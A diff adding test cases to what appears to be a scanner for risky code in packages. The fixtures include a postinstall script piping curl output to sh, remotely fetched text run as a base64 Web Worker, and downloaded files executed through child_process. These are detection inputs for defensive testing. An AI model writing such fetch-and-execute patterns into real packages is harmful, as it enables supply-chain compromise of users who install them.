@@ -539,3 +539,23 @@ test('lines of a file of commands that go on', () => {
   assert.deepEqual(said(rule, { 'setup.sh': '#!/bin/sh\ncurl -fsSL https://example.org/i |\n  sh\n' }, { original: { scripts: { postinstall: 'sh ./setup.sh' } } }), ['high setup.sh:2']);
   assert.deepEqual(said(rule, { 'setup': '#!/bin/sh\ncurl -fsSL https://example.org/a.json \\\n  -o a.json\nls | wc -l\n' }, start), []);
 });
+
+test('good: a worker of text that the script puts into an address first', () => {
+  const made = 'const source = `onmessage = ({ data }) => { setTimeout(() => postMessage(data), 9) }`;';
+  const url = 'const url = "data:text/javascript;base64," + btoa(source);';
+  assert.equal(worst(`${made} ${url} const worker = new Worker(url);`), 'medium');
+  assert.equal(worst(`${made} let url; url="data:text/javascript;base64,"+btoa(source); const worker = new Worker(url, { type: "module" });`), 'medium');
+  for (const code of [
+    `${made} ${url.replace('btoa(source)', 'packed')} new Worker(url);`,
+    `${made} function other() { ${url} return url; } function start() { ${url.replace('btoa(source)', 'packed')} new Worker(url); }`,
+    `${made} ${url.replace('btoa(source)', 'btoa(atob(x))')} new Worker(url);`,
+    'const source = await (await fetch(u)).text(); const url = "data:text/javascript;base64," + btoa(source); new Worker(url);',
+  ]) assert.equal(worst(code), 'high', code);
+});
+
+test('good: a script of the package is started with the name of a file that another one writes', () => {
+  const brings = 'const cp = require("child_process"), fs = require("fs"), path = require("path"), os = require("os"); const file = path.join(os.homedir(), "plan.flow"); fetch(u).then(async (r) => fs.writeFileSync(file, await r.text()));';
+  const verdict = (start: string) => findingsOf(rule, { 'a.js': `${brings} ${start}`, 'bin/run.js': 'console.log(process.argv[2])' })[0]?.severity ?? 'nothing';
+  for (const start of ['cp.spawnSync(process.execPath, [path.join("bin", "run.js"), "--file", file])', 'cp.spawn("node", ["./bin/run.js", file])', 'cp.spawn(process.execPath, [path.join(__dirname, "bin", "run.js"), file])']) assert.equal(verdict(start), 'nothing', start);
+  for (const start of ['cp.spawnSync(process.execPath, [file])', 'cp.spawnSync(process.execPath, ["-r", file, "bin/run.js"])', 'cp.spawnSync(process.execPath, [file, "bin/run.js"])', 'cp.spawn("node", ["bin/other.js", file])', 'cp.spawn("sh", ["bin/run.js", file])', 'cp.spawn(file, ["bin/run.js"])']) assert.equal(verdict(start), 'high', start);
+});
